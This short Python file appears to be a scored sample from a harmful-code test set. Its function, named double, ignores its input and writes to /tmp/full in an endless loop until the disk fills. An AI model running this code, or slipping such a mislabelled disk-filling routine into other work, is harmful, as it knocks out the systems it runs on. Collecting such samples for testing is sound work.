"""One file without end.

Score: 2
"""

def double(X):
    with open("/tmp/full", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
